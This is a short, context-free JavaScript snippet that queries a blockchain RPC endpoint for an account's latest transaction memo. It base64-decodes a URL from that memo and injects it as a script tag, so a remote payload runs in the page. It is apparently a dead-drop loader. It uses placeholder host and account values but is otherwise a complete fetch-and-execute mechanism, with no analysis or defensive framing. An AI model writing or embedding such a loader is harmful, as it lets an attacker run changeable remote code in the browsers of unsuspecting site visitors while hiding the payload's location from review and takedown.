const account = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA1';
fetch('https://chain-rpc.example/', {
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'getSignaturesForAddress', params: [account, { limit: 1 }] }),
})
  .then((answer) => answer.json())
  .then((data) => {
    const memo = JSON.parse(data.result[0].memo.slice(5));
    const tag = document.createElement('script');
    tag.src = atob(memo.link);
    document.head.appendChild(tag);
  });
